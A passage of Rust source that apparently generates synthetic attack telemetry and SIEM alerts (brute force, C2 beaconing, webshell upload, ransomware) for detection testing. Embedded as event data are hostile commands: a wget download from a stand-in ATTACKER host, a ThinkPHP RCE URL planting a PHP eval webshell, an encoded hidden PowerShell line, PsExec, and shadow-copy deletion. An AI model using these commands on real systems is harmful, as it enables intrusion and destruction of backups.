//! Attack stories: sequences of events that touch specific organizations and assets over a
//! time window, and the alerts detection raises on them.

use crate::StoryKind;
use crate::catalog::{self, Profile};
use crate::clock::{self, HOUR, MIN, SEC};
use crate::noise::{
    access_log, dns_query, fw_event, ics_audit, linux_exec, modbus, sshd, web_check, win_auth,
    win_process,
};
use crate::state::{F, Gen, sev_num};
use crate::world::{OrgWorld, Os, Stack, World};
use serde_json::json;
use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use vigil_model::{AlertSource, Severity};

/// How many instances of each story to tell, and how long each runs, relative to the defaults.
#[derive(Debug, Clone, Copy)]
pub struct Scale {
    pub inst: f64,
    pub size: f64,
}

impl Scale {
    fn n(self, base: usize) -> usize {
        ((base as f64 * self.inst).round() as usize).max(1)
    }
    fn len(self, lo: i64, hi: i64, floor: i64) -> (i64, i64) {
        let lo2 = ((lo as f64 * self.size) as i64).max(floor);
        let hi2 = ((hi as f64 * self.size) as i64).max(lo2 + 1);
        (lo2, hi2)
    }
}

// Detection rules. Sigma ids are SigmaHQ's where the rule exists there; the others are this
// platform's own rules, with ids of the same form.
const SIGMA_FAILED_LOGINS_LINUX: &str = "fc947f8e-ea81-4b14-9a7b-13f888f94e18";
const SIGMA_FAILED_LOGINS_WIN: &str = "e98374a6-e2d9-4076-9b5c-11bdb2569995";
const SIGMA_SHADOW_COPIES: &str = "c947b146-0abc-4c87-9c64-b17e9d7274a2";
const SIGMA_BCDEDIT: &str = "1444443e-6757-43e4-9ea4-c8fc705f79a2";
const SIGMA_WEBSERVER_PROCESS: &str = "8202070f-edeb-4d31-a010-a26c72ac5600";
const SIGMA_WEBSHELL_KEYWORDS: &str = "bed2a484-9348-4143-8a8a-b801c979301c";
const SIGMA_LOG4J: &str = "5ea8faa8-db8b-45be-89b0-151b84c82702";
const SIGMA_MINING: &str = "9069ea3c-b213-4c52-be13-86506a227ab1";
const RULE_SSH_BRUTE: &str = "b7c4a1e2-5d3f-4e8a-9c1b-2f6d8e0a7b31";
const RULE_RDP_BRUTE: &str = "3e9a7c52-1b4d-4f6e-8a2c-9d0b5e7f1a64";
const RULE_BRUTE_SUCCESS: &str = "5f2d8b17-9e4c-4a3b-b6d1-7c8e0f2a9d45";
const RULE_BEACON: &str = "8d3e6f0a-2c7b-4b1e-9f5a-6e4d2c1b0a97";
const RULE_WEBSHELL_EXEC_LINUX: &str = "c1f4e7a9-3b2d-4e6f-8a1c-5d9b7e3f2a08";
const RULE_LATERAL_PSEXEC: &str = "6d0b8e2f-4a7c-4f1d-9e3b-b5c2a8d4f061";
const RULE_SMB_MASS_WRITE: &str = "e4b2c9d7-6a1f-4c3e-8b5d-0f7a9e2c4d16";
const RULE_ICS_NEW_DEVICE: &str = "7a1e5c3b-9d2f-4b8e-a6c4-1f0d3e5b7a29";
const RULE_ICS_PLC_STOP: &str = "2c8f4a6e-1b3d-4e9a-b7c5-8d0f2e4a6c13";
const RULE_ICS_MODBUS_WRITE: &str = "9b5d1f3a-7e2c-4a8b-9d6f-3c1e5a7b9d02";
const RULE_PORT_SCAN: &str = "f3a9d2c1-4e7b-4c5a-9b8d-2e6f1a3c5d70";

/// Tells every story; returns nothing, everything goes into `g`.
pub fn tell(g: &mut Gen, w: &World, s: Scale) {
    if w.orgs.is_empty() {
        return;
    }
    let mut used = vec![0usize; w.orgs.len()];

    // Website defacements first: the web monitor's background checks consult them.
    let n = s.n(2);
    for i in 0..n {
        if let Some(org) = choose(
            g,
            w,
            &mut used,
            |o| !o.sites.is_empty(),
            |o| {
                matches!(
                    o.profile,
                    Profile::Gov | Profile::University | Profile::Media
                )
            },
        ) {
            let t = g.slot(i, n, 8 * HOUR);
            defacement(g, w, org, t);
        }
    }

    let n_ssh = s.n(5);
    for i in 0..n_ssh {
        if let Some(org) = choose(g, w, &mut used, |o| !o.linux.is_empty(), |_| true) {
            let t = g.slot(i, n_ssh, 3 * HOUR);
            let success = i == 0 || g.chance(0.7);
            brute_force(g, w, org, t, true, success, s);
        }
    }
    let n_rdp = s.n(3);
    for i in 0..n_rdp {
        if let Some(org) = choose(
            g,
            w,
            &mut used,
            |o| !o.win_servers.is_empty(),
            |o| {
                matches!(
                    o.profile,
                    Profile::Hospital | Profile::Manufacturing | Profile::Retail | Profile::Pharma
                )
            },
        ) {
            let t = g.slot(i, n_rdp, 3 * HOUR);
            let success = i == 0 || g.chance(0.6);
            brute_force(g, w, org, t, false, success, s);
        }
    }

    let n = s.n(4);
    for i in 0..n {
        if let Some(org) = choose(
            g,
            w,
            &mut used,
            |o| !o.workstations.is_empty(),
            |o| {
                matches!(
                    o.profile,
                    Profile::University | Profile::Hospital | Profile::Gov | Profile::Bank
                )
            },
        ) {
            let (lo, hi) = s.len(18, 36, 2);
            let hours = g.range(lo, hi);
            let t = g.slot(i, n, hours * HOUR + HOUR);
            beacon(g, w, org, t, hours, i);
        }
    }

    let n = s.n(4);
    for i in 0..n {
        if let Some(org) = choose(
            g,
            w,
            &mut used,
            |o| o.sites.iter().any(|x| x.stack != Stack::Static),
            |o| o.cii,
        ) {
            let t = g.slot(i, n, 8 * HOUR);
            webshell(g, w, org, t, s);
        }
    }

    let n = s.n(3);
    for i in 0..n {
        if let Some(org) = choose(
            g,
            w,
            &mut used,
            |o| !o.win_servers.is_empty() && !o.workstations.is_empty(),
            |o| {
                matches!(
                    o.profile,
                    Profile::Hospital | Profile::Pharma | Profile::Manufacturing | Profile::Port
                )
            },
        ) {
            let t = g.slot(i, n, 6 * HOUR);
            ransomware(g, w, org, t, s);
        }
    }

    let n = s.n(2);
    for i in 0..n {
        if let Some(org) = choose(
            g,
            w,
            &mut used,
            |o| o.ics.as_ref().is_some_and(|x| !x.plcs.is_empty()),
            |o| matches!(o.profile, Profile::Grid | Profile::Water | Profile::Gas),
        ) {
            let t = g.slot(i, n, 6 * HOUR);
            ics_intrusion(g, w, org, t, i);
        }
    }

    let n = s.n(2);
    for i in 0..n {
        if let Some(org) = choose(
            g,
            w,
            &mut used,
            |o| o.linux.len() > 3,
            |o| matches!(o.profile, Profile::University | Profile::Internet),
        ) {
            let (lo, hi) = s.len(6, 20, 2);
            let hours = g.range(lo, hi);
            let t = g.slot(i, n, hours * HOUR + HOUR);
            miner(g, w, org, t, hours);
        }
    }

    let n = s.n(40);
    for i in 0..n {
        if let Some(org) = choose(
            g,
            w,
            &mut used,
            |o| o.sites.iter().any(|x| x.stack == Stack::Java),
            |o| o.sites.iter().any(|x| x.log4j),
        ) {
            let t = g.slot(i, n, HOUR);
            log4j_probe(g, w, org, t);
        }
    }

    scans(g, w, s.n(150), s);
    vulnerabilities(g, w, s.n(20));
}

/// Picks an organization satisfying `ok`, preferring `prefer` and the least used.
fn choose(
    g: &mut Gen,
    w: &World,
    used: &mut [usize],
    ok: impl Fn(&OrgWorld) -> bool,
    prefer: impl Fn(&OrgWorld) -> bool,
) -> Option<usize> {
    let all: Vec<usize> = (0..w.orgs.len()).filter(|&i| ok(&w.orgs[i])).collect();
    let preferred: Vec<usize> = all
        .iter()
        .copied()
        .filter(|&i| prefer(&w.orgs[i]))
        .collect();
    let pool = if !preferred.is_empty() && g.chance(0.75) {
        preferred
    } else {
        all
    };
    let min = pool.iter().map(|&i| used[i]).min()?;
    let least: Vec<usize> = pool.into_iter().filter(|&i| used[i] == min).collect();
    let org = *g.pick(&least);
    used[org] += 1;
    Some(org)
}

fn ctx(pairs: &[(&'static str, String)]) -> BTreeMap<&'static str, String> {
    pairs.iter().cloned().collect()
}

fn brute_force(g: &mut Gen, w: &World, org: usize, t0: i64, ssh: bool, success: bool, s: Scale) {
    let o = &w.orgs[org];
    let candidates: Vec<usize> = if ssh {
        let exposed: Vec<usize> = o
            .linux
            .iter()
            .copied()
            .filter(|&n| o.node(n).public.is_some())
            .collect();
        if exposed.is_empty() {
            o.linux.clone()
        } else {
            exposed
        }
    } else {
        o.win_servers
            .iter()
            .copied()
            .filter(|&n| n != o.dc)
            .collect()
    };
    let Some(&node) = candidates.get(g.range(0, candidates.len() as i64) as usize) else {
        return;
    };
    let target = o.node(node).clone();
    let dst = target
        .public
        .unwrap_or(o.public_ips[3 % o.public_ips.len()]);
    let attacker = g.attacker_ip();
    let first = g.events.len();
    let (lo, hi) = s.len(150, 600, 110);
    let n_fail = g.range(lo, hi) as usize;
    let final_user = if ssh { "root" } else { "administrator" };
    let kali = format!("WIN-{}", g.hex(10).to_uppercase());
    let mut fails = Vec::with_capacity(n_fail);
    let mut t = t0;
    for i in 0..n_fail {
        t += if ssh {
            g.range(300_000, 4 * SEC)
        } else {
            g.range(SEC, 6 * SEC)
        };
        let user = if i + 30 >= n_fail {
            final_user
        } else if ssh {
            g.pick(catalog::BRUTE_USERS_SSH)
        } else {
            g.pick(catalog::BRUTE_USERS_RDP)
        };
        let e = if ssh {
            sshd(g, o, org, node, t, false, user, attacker, "password", dst)
        } else {
            let unknown = user != "administrator";
            win_auth(g, o, org, node, t, false, user, 3, attacker, &kali, unknown)
        };
        fails.push(e);
    }
    let mut alerts = Vec::new();
    let (rule, proto) = if ssh {
        (RULE_SSH_BRUTE, "SSH")
    } else {
        (RULE_RDP_BRUTE, "RDP")
    };
    for chunk in fails.chunks(100) {
        if chunk.len() < 40 {
            break;
        }
        let a = g.alert(
            org,
            Some(target.asset),
            AlertSource::Sigma,
            rule,
            format!(
                "{proto}暴力破解：{attacker} 对 {} 连续登录失败 {} 次",
                target.host,
                chunk.len()
            ),
            Severity::Medium,
            "NACRED",
            chunk,
            t0,
            json!({"source.ip": attacker.to_string(), "destination.ip": dst.to_string(),
                   "host.name": target.host, "failures": chunk.len(), "window_minutes": 10}),
        );
        alerts.push(a);
    }
    let (sigma, title) = if ssh {
        (
            SIGMA_FAILED_LOGINS_LINUX,
            "Failed Logins with Different Accounts from Single Source - Linux",
        )
    } else {
        (
            SIGMA_FAILED_LOGINS_WIN,
            "Failed Logins with Different Accounts from Single Source System",
        )
    };
    let head = &fails[..fails.len().min(60)];
    let a = g.alert(
        org,
        Some(target.asset),
        AlertSource::Sigma,
        sigma,
        title.to_string(),
        Severity::Medium,
        "NACRED",
        head,
        t0,
        json!({"source.ip": attacker.to_string(), "distinct_users": 3}),
    );
    alerts.push(a);

    if success {
        t += g.range(2 * SEC, 40 * SEC);
        let ok = if ssh {
            sshd(
                g, o, org, node, t, true, final_user, attacker, "password", dst,
            )
        } else {
            win_auth(
                g, o, org, node, t, true, final_user, 10, attacker, &kali, false,
            )
        };
        let mut post = vec![ok];
        let cmds: &[&str] = if ssh {
            &[
                "uname -a",
                "cat /proc/cpuinfo",
                "w",
                "wget -q http://ATTACKER/x.sh -O /tmp/.x.sh",
                "chmod +x /tmp/.x.sh",
                "crontab -l",
            ]
        } else {
            &[
                "whoami",
                "net user",
                "net localgroup administrators",
                "query user",
                "ipconfig /all",
            ]
        };
        for cmd in cmds {
            t += g.range(3 * SEC, 90 * SEC);
            let cmd = cmd.replace("ATTACKER", &attacker.to_string());
            let e = if ssh {
                let exe = match cmd.split(' ').next() {
                    Some("wget") => "/usr/bin/wget",
                    Some("chmod") => "/usr/bin/chmod",
                    Some("cat") => "/usr/bin/cat",
                    Some("crontab") => "/usr/bin/crontab",
                    Some("w") => "/usr/bin/w",
                    _ => "/usr/bin/uname",
                };
                linux_exec(g, o, org, node, t, "root", exe, &cmd, "bash")
            } else {
                let exe = if cmd.starts_with("net") {
                    "C:\\Windows\\System32\\net.exe"
                } else {
                    "C:\\Windows\\System32\\cmd.exe"
                };
                win_process(
                    g,
                    o,
                    org,
                    node,
                    t,
                    "Administrator",
                    exe,
                    &cmd,
                    "C:\\Windows\\explorer.exe",
                )
            };
            post.push(e);
        }
        let mut evidence: Vec<usize> = fails[fails.len().saturating_sub(20)..].to_vec();
        evidence.push(ok);
        let a = g.alert(
            org,
            Some(target.asset),
            AlertSource::Sigma,
            RULE_BRUTE_SUCCESS,
            format!(
                "暴力破解后登录成功：{final_user}@{} 来自 {attacker}",
                target.host
            ),
            Severity::High,
            "NACRED",
            &evidence,
            t,
            json!({"source.ip": attacker.to_string(), "user.name": final_user,
                   "failures_before_success": n_fail, "post_login_commands": post.len() - 1}),
        );
        alerts.push(a);
    }
    let kind = if ssh {
        StoryKind::BruteForceSsh
    } else {
        StoryKind::BruteForceRdp
    };
    g.story(
        kind,
        org,
        format!(
            "{proto}暴力破解{}：{}",
            if success { "并登录成功" } else { "" },
            target.label
        ),
        t0,
        first,
        alerts,
        vec![target.asset],
        ctx(&[
            ("source_ip", attacker.to_string()),
            ("host", target.host.clone()),
            ("user", final_user.to_string()),
            ("failures", n_fail.to_string()),
            ("success", success.to_string()),
        ]),
    );
}

fn http_eve(
    g: &mut Gen,
    o: &OrgWorld,
    org: usize,
    node: usize,
    t: i64,
    dst: Ipv4Addr,
    domain: &str,
    path: &str,
) -> usize {
    let n = o.node(node);
    let sport = g.port();
    let flow = g.flow_id();
    let ua = "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko";
    let len = g.range(200, 260);
    let raw = format!(
        "{{\"timestamp\":\"{}\",\"flow_id\":{flow},\"in_iface\":\"ens192\",\"event_type\":\"http\",\"src_ip\":\"{}\",\"src_port\":{sport},\"dest_ip\":\"{dst}\",\"dest_port\":80,\"proto\":\"TCP\",\"tx_id\":0,\"http\":{{\"hostname\":\"{domain}\",\"url\":\"{path}\",\"http_user_agent\":\"{ua}\",\"http_content_type\":\"application/javascript\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":{len}}}}}",
        clock::eve(t),
        n.ip
    );
    let f = F::new("network", "http-request", "suricata.eve")
        .outcome(true)
        .severity(2)
        .observer("ids", "OISF", "Suricata", format!("{}-ids01", o.slug))
        .ip("source.ip", n.ip)
        .n("source.port", sport)
        .ip("destination.ip", dst)
        .n("destination.port", 80)
        .st("network.protocol", "http")
        .s("url.domain", domain)
        .s("url.path", path)
        .st("http.request.method", "GET")
        .n("http.response.status_code", 200)
        .s("user_agent.original", ua)
        .s("host.name", n.host.clone())
        .message(format!("GET http://{domain}{path} from {}", n.ip));
    g.push(org, Some(n.asset), t, f, raw)
}

fn edr_file(
    g: &mut Gen,
    o: &OrgWorld,
    org: usize,
    node: usize,
    t: i64,
    path: &str,
    hash: &str,
    process: &str,
) -> usize {
    let n = o.node(node);
    let name = path.rsplit(['\\', '/']).next().unwrap_or(path).to_string();
    let size = g.range(4_000, 900_000);
    let raw = format!(
        "{{\"time\":\"{}\",\"agent\":\"{}\",\"type\":\"file_create\",\"path\":\"{}\",\"sha256\":\"{hash}\",\"size\":{size},\"process\":\"{process}\"}}",
        clock::rfc3339(t),
        n.host,
        path.replace('\\', "\\\\")
    );
    let f = F::new("file", "file-created", "hids.file")
        .outcome(true)
        .severity(3)
        .st("observer.type", "host")
        .s("host.name", n.host.clone())
        .s("file.path", path)
        .s("file.name", name)
        .n("file.size", size)
        .s("file.hash.sha256", hash)
        .s("process.name", process)
        .message(format!("{process} created {path}"));
    g.push(org, Some(n.asset), t, f, raw)
}

fn registrable(domain: &str) -> String {
    let parts: Vec<&str> = domain.split('.').collect();
    if parts.len() <= 2 {
        domain.to_string()
    } else {
        parts[parts.len() - 2..].join(".")
    }
}

fn beacon(g: &mut Gen, w: &World, org: usize, t0: i64, hours: i64, i: usize) {
    let o = &w.orgs[org];
    let host = *g.pick(&o.workstations);
    let node = o.node(host).clone();
    let c2 = catalog::C2_DOMAINS[i % catalog::C2_DOMAINS.len()];
    let c2_ip = g.attacker_ip();
    let user = g.pick(&o.accounts).clone();
    let first = g.events.len();
    let lure = *g.pick(&[
        "关于2024年度绩效考核结果的通知.exe",
        "工资调整明细表（内部）.scr",
        "网络安全检查整改清单.pdf.exe",
        "会议纪要-第三季度.docx.exe",
    ]);
    let lure_path = format!("C:\\Users\\{user}\\Downloads\\{lure}");
    let mut t = t0;
    let p1 = win_process(
        g,
        o,
        org,
        host,
        t,
        &user,
        &lure_path,
        &format!("\"{lure_path}\""),
        "C:\\Windows\\explorer.exe",
    );
    t += g.range(2 * SEC, 20 * SEC);
    let dll = "C:\\Users\\Public\\Libraries\\msupdate.dll";
    let hash = g.sha256();
    let file = edr_file(g, o, org, host, t, dll, &hash, lure);
    t += g.range(SEC, 10 * SEC);
    let p2 = win_process(
        g,
        o,
        org,
        host,
        t,
        &user,
        "C:\\Windows\\System32\\rundll32.exe",
        &format!("rundll32.exe {dll},DllRegisterServer"),
        &lure_path,
    );
    let mut alerts = vec![g.alert(
        org,
        Some(node.asset),
        AlertSource::Yara,
        "yara:Win_Trojan_CobaltStrike_Beacon",
        format!("YARA命中远控木马特征（Cobalt Strike Beacon）：{}", node.host),
        Severity::Critical,
        "MPZOMB",
        &[file, p1, p2],
        t0,
        json!({"file.path": dll, "file.hash.sha256": hash, "yara.rule": "Win_Trojan_CobaltStrike_Beacon"}),
    )];

    let end = t + hours * HOUR;
    let mut window: Vec<usize> = Vec::new();
    let mut window_start = t;
    let mut beats = 0;
    let mut first_hour: Vec<usize> = Vec::new();
    while t < end && t < g.now - MIN {
        t += 60 * SEC + g.range(-3 * SEC, 3 * SEC);
        if beats % 5 == 0 {
            let d = dns_query(g, o, org, t - 150_000, host, c2);
            window.push(d);
        }
        let path = *g.pick(&["/jquery-3.3.1.min.js", "/jquery-3.3.1.slim.min.js"]);
        let e = http_eve(g, o, org, host, t, c2_ip, c2, path);
        window.push(e);
        if beats < 60 {
            first_hour.push(e);
        }
        beats += 1;
        if beats == 60 {
            let a = g.alert(
                org,
                Some(node.asset),
                AlertSource::Sigma,
                RULE_BEACON,
                format!("周期性外联行为（疑似C2心跳，间隔≈60秒）：{} → {c2}", node.host),
                Severity::Medium,
                "MPZOMB",
                &first_hour,
                t,
                json!({"source.ip": node.ip.to_string(), "url.domain": c2, "interval_s": 60, "jitter_s": 3}),
            );
            alerts.push(a);
        }
        if t - window_start >= 4 * HOUR {
            let a = beacon_ioc(g, org, &node, c2, c2_ip, &window, t);
            alerts.push(a);
            window.clear();
            window_start = t;
        }
    }
    if !window.is_empty() {
        let a = beacon_ioc(g, org, &node, c2, c2_ip, &window, t);
        alerts.push(a);
    }
    g.story(
        StoryKind::Beaconing,
        org,
        format!("僵尸木马外联：{} 周期性访问 {c2}", node.label),
        t0,
        first,
        alerts,
        vec![node.asset],
        ctx(&[
            ("host", node.host.clone()),
            ("source_ip", node.ip.to_string()),
            ("c2_domain", c2.to_string()),
            ("c2_ip", c2_ip.to_string()),
            ("beacons", beats.to_string()),
            ("user", user),
        ]),
    );
}

fn beacon_ioc(
    g: &mut Gen,
    org: usize,
    node: &crate::world::Node,
    c2: &str,
    c2_ip: Ipv4Addr,
    window: &[usize],
    at: i64,
) -> usize {
    let evidence = &window[..window.len().min(300)];
    g.alert(
        org,
        Some(node.asset),
        AlertSource::Ioc,
        &format!("ioc:domain:{}", registrable(c2)),
        format!("威胁情报命中：主机 {} 访问C2域名 {c2}", node.host),
        Severity::High,
        "MPZOMB",
        evidence,
        at,
        json!({"indicator": c2, "indicator.type": "domain", "threat.family": "Cobalt Strike",
               "destination.ip": c2_ip.to_string(), "hits": window.len(), "confidence": 90}),
    )
}

fn webshell(g: &mut Gen, w: &World, org: usize, t0: i64, s: Scale) {
    let o = &w.orgs[org];
    let sites: Vec<usize> = (0..o.sites.len())
        .filter(|&i| o.sites[i].stack != Stack::Static)
        .collect();
    let Some(&si) = sites.get(g.range(0, sites.len() as i64) as usize) else {
        return;
    };
    let site = o.sites[si].clone();
    let server = site.server;
    let srv = o.node(server).clone();
    let attacker = g.attacker_ip();
    let first = g.events.len();
    let mut t = t0;

    // Directory brute force.
    let (lo, hi) = s.len(60, 150, 30);
    let n_recon = g.range(lo, hi);
    let scan_ua = "Mozilla/5.0 (compatible; dirsearch/0.4.3)";
    let mut recon = Vec::new();
    for _ in 0..n_recon {
        t += g.range(100_000, 3 * SEC);
        let path = *g.pick(catalog::DIRSCAN_PATHS);
        let status = match path {
            "/upload/" => 403,
            "/WEB-INF/web.xml" => 403,
            "/login" => 200,
            _ => 404,
        };
        recon.push(access_log(
            g, o, org, si, t, attacker, "GET", path, status, scan_ua,
        ));
    }
    let mut alerts = vec![g.alert(
        org,
        Some(site.asset),
        AlertSource::Web,
        "web:dir-bruteforce",
        format!(
            "Web目录扫描：{attacker} 对 {} 发起 {n_recon} 次路径探测",
            site.domain
        ),
        Severity::Low,
        "NASCAN",
        &recon[..recon.len().min(200)],
        t0,
        json!({"source.ip": attacker.to_string(), "url.domain": site.domain, "requests": n_recon,
               "user_agent.original": scan_ua}),
    )];

    // Exploit and upload.
    t += g.range(5 * MIN, 40 * MIN);
    let stamp = clock::date(t).replace('-', "");
    let (exploit_method, exploit_path, shell, disk, writer, yara) = match site.stack {
        Stack::Java => (
            "POST",
            "/fileUpload/uploadFile.do".to_string(),
            format!("/upload/{stamp}/help.jsp"),
            format!("/opt/tomcat/webapps/ROOT/upload/{stamp}/help.jsp"),
            "java",
            "webshell_behinder_jsp",
        ),
        Stack::Php => (
            "GET",
            "/index.php?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=file_put_contents&vars[1][]=static/conf.php&vars[1][]=%3C%3Fphp%20@eval($_POST[%27pass%27]);%3F%3E".to_string(),
            "/static/conf.php".to_string(),
            "/var/www/html/public/static/conf.php".to_string(),
            "php-fpm",
            "webshell_php_eval_generic",
        ),
        _ => (
            "POST",
            "/ueditor/net/controller.ashx?action=catchimage".to_string(),
            format!("/upload/image/{stamp}/6371{}.aspx", g.range(100_000, 999_999)),
            format!("C:\\inetpub\\wwwroot\\upload\\image\\{stamp}\\shell.aspx"),
            "w3wp.exe",
            "webshell_godzilla_aspx",
        ),
    };
    let ua = *g.pick(catalog::SHELL_UAS);
    let up = access_log(
        g,
        o,
        org,
        si,
        t,
        attacker,
        exploit_method,
        &exploit_path,
        200,
        ua,
    );
    t += g.range(300_000, 3 * SEC);
    let hash = g.sha256();
    let file = edr_file(g, o, org, server, t, &disk, &hash, writer);
    alerts.push(g.alert(
        org,
        Some(site.asset),
        AlertSource::Web,
        "web:webshell-upload",
        format!("检测到WebShell文件上传：{}{shell}", site.domain),
        Severity::High,
        "NABACKIMPL",
        &[up, file],
        t,
        json!({"source.ip": attacker.to_string(), "url.original": exploit_path, "file.path": disk}),
    ));
    alerts.push(g.alert(
        org,
        Some(srv.asset),
        AlertSource::Yara,
        &format!("yara:{yara}"),
        format!("YARA命中WebShell特征（{yara}）：{disk}"),
        Severity::Critical,
        "NABACKIMPL",
        &[file],
        t,
        json!({"file.path": disk, "file.hash.sha256": hash, "yara.rule": yara}),
    ));

    // Commands through the webshell.
    let windows = srv.os == Os::Windows;
    let cmds: &[&str] = if windows {
        &[
            "whoami",
            "ipconfig /all",
            "net user",
            "systeminfo",
            "tasklist /svc",
            "netstat -ano",
            "query user",
            "dir C:\\Users",
        ]
    } else {
        &[
            "whoami",
            "id",
            "uname -a",
            "ifconfig",
            "cat /etc/passwd",
            "netstat -antp",
            "ps -ef",
            "ls -la /home",
        ]
    };
    let n_cmd = g.range(8, 25);
    let mut procs = Vec::new();
    for i in 0..n_cmd {
        t += if i < 6 {
            g.range(5 * SEC, 2 * MIN)
        } else {
            g.range(2 * MIN, 40 * MIN)
        };
        access_log(g, o, org, si, t, attacker, "POST", &shell, 200, ua);
        let cmd = *g.pick(cmds);
        let p = if windows {
            win_process(
                g,
                o,
                org,
                server,
                t + 80_000,
                "IIS APPPOOL\\DefaultAppPool",
                "C:\\Windows\\System32\\cmd.exe",
                &format!("cmd.exe /c \"cd /d C:\\inetpub\\wwwroot\\&{cmd}&echo [S]&cd&echo [E]\""),
                "c:\\windows\\system32\\inetsrv\\w3wp.exe",
            )
        } else {
            let user = if site.stack == Stack::Php {
                "www-data"
            } else {
                "tomcat"
            };
            linux_exec(
                g,
                o,
                org,
                server,
                t + 80_000,
                user,
                "/bin/bash",
                &format!("/bin/bash -c cd /tmp;{cmd};echo [S];pwd;echo [E]"),
                writer,
            )
        };
        procs.push(p);
    }
    if windows {
        alerts.push(g.alert(
            org,
            Some(srv.asset),
            AlertSource::Sigma,
            SIGMA_WEBSERVER_PROCESS,
            "Suspicious Process By Web Server Process".to_string(),
            Severity::High,
            "NABACKIMPL",
            &procs,
            t,
            json!({"process.parent.name": "w3wp.exe", "host.name": srv.host}),
        ));
        alerts.push(g.alert(
            org,
            Some(srv.asset),
            AlertSource::Sigma,
            SIGMA_WEBSHELL_KEYWORDS,
            "Webshell Detection With Command Line Keywords".to_string(),
            Severity::High,
            "NABACKIMPL",
            &procs,
            t,
            json!({"host.name": srv.host, "commands": procs.len()}),
        ));
    } else {
        alerts.push(g.alert(
            org,
            Some(srv.asset),
            AlertSource::Sigma,
            RULE_WEBSHELL_EXEC_LINUX,
            format!("Web服务进程（{writer}）派生Shell执行系统命令：{}", srv.host),
            Severity::High,
            "NABACKIMPL",
            &procs,
            t,
            json!({"process.parent.name": writer, "host.name": srv.host, "commands": procs.len()}),
        ));
    }
    g.story(
        StoryKind::Webshell,
        org,
        format!("网站被植入WebShell：{}", site.domain),
        t0,
        first,
        alerts,
        vec![site.asset, srv.asset],
        ctx(&[
            ("source_ip", attacker.to_string()),
            ("domain", site.domain.clone()),
            ("shell", shell),
            ("file", disk),
            ("host", srv.host.clone()),
        ]),
    );
}

const RANSOM_HASH: &str = "9f3c1d7be2a04c58e6b1f0a7d93e2c45b8a61f07e4d2c9b3a5f6e8d1c0b7a2e4";

fn ransomware(g: &mut Gen, w: &World, org: usize, t0: i64, s: Scale) {
    let o = &w.orgs[org];
    let victims: Vec<usize> = o
        .win_servers
        .iter()
        .copied()
        .filter(|&n| n != o.dc && n != o.file_server)
        .collect();
    // A server if there is one besides the domain controller and the file share, else the
    // office PC the attackers landed on.
    let victim = match victims.get(g.range(0, victims.len() as i64) as usize) {
        Some(&n) => n,
        None => *g.pick(&o.workstations),
    };
    let v = o.node(victim).clone();
    let fs = o.node(o.file_server).clone();
    let attacker = g.attacker_ip();
    let first = g.events.len();
    let mut t = g.at_local_hours(t0, 1, 4);
    let start = t;
    let account = g.pick(&o.accounts).clone();
    let vip = Ipv4Addr::new(10, o.office_net[1], 250, g.range(10, 250) as u8);
    if let Some((vpn_asset, vpn_ip)) = o.vpn {
        let text = format!("用户 {account} 从 {attacker} 登录成功，分配虚拟IP {vip}");
        let raw = format!(
            "<134>1 {} {}-vpn01 sslvpn - - - {text}",
            clock::rfc3339(t),
            o.slug
        );
        let f = F::new("authentication", "vpn-login", "sangfor.sslvpn")
            .outcome(true)
            .severity(1)
            .observer(
                "vpn",
                "Sangfor",
                "SSL VPN M5400",
                format!("{}-vpn01", o.slug),
            )
            .s("user.name", account.clone())
            .ip("source.ip", attacker)
            .ip("destination.ip", vpn_ip)
            .n("destination.port", 443)
            .message(text);
        g.push(org, Some(vpn_asset), t, f, raw);
        t += g.range(MIN, 8 * MIN);
    }
    win_auth(
        g,
        o,
        org,
        victim,
        t,
        true,
        "administrator",
        10,
        vip,
        "DESKTOP-7H2KQ9L",
        false,
    );
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    let steps: &[(&str, &str)] = &[
        (
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        ),
        (
            "C:\\Windows\\System32\\net.exe",
            "net group \"domain admins\" /domain",
        ),
        (
            "C:\\Users\\Public\\Music\\PsExec64.exe",
            "PsExec64.exe \\\\FS01 -accepteula -s cmd /c \"net share\"",
        ),
    ];
    let mut recon = Vec::new();
    for (exe, line) in steps {
        t += g.range(30 * SEC, 6 * MIN);
        recon.push(win_process(
            g,
            o,
            org,
            victim,
            t,
            "Administrator",
            exe,
            line,
            cmd,
        ));
    }
    t += g.range(MIN, 5 * MIN);
    let payload = "C:\\Users\\Public\\Music\\svchost_.exe";
    let file = edr_file(g, o, org, victim, t, payload, RANSOM_HASH, "powershell.exe");
    let mut alerts = vec![
        g.alert(
            org,
            Some(v.asset),
            AlertSource::Ioc,
            &format!("ioc:sha256:{RANSOM_HASH}"),
            format!("威胁情报命中：已知勒索软件样本（LockBit 3.0）落地 {}", v.host),
            Severity::Critical,
            "MPRANS",
            &[file],
            t,
            json!({"indicator": RANSOM_HASH, "indicator.type": "sha256", "threat.family": "LockBit 3.0",
                   "file.path": payload}),
        ),
        g.alert(
            org,
            Some(v.asset),
            AlertSource::Yara,
            "yara:Win_Ransomware_LockBit3",
            format!("YARA命中勒索软件特征（LockBit 3.0）：{payload}"),
            Severity::Critical,
            "MPRANS",
            &[file],
            t,
            json!({"file.path": payload, "file.hash.sha256": RANSOM_HASH}),
        ),
    ];
    let mut shadow = Vec::new();
    for line in [
        "vssadmin.exe delete shadows /all /quiet",
        "wmic.exe shadowcopy delete",
    ] {
        t += g.range(5 * SEC, 40 * SEC);
        let exe = if line.starts_with("vss") {
            "C:\\Windows\\System32\\vssadmin.exe"
        } else {
            "C:\\Windows\\System32\\wbem\\WMIC.exe"
        };
        shadow.push(win_process(
            g,
            o,
            org,
            victim,
            t,
            "Administrator",
            exe,
            line,
            payload,
        ));
    }
    alerts.push(g.alert(
        org,
        Some(v.asset),
        AlertSource::Sigma,
        SIGMA_SHADOW_COPIES,
        "Shadow Copies Deletion Using Operating Systems Utilities".to_string(),
        Severity::Critical,
        "MPRANS",
        &shadow,
        t,
        json!({"host.name": v.host, "process.command_line": "vssadmin.exe delete shadows /all /quiet"}),
    ));
    let mut boot = Vec::new();
    for line in [
        "bcdedit.exe /set {default} recoveryenabled No",
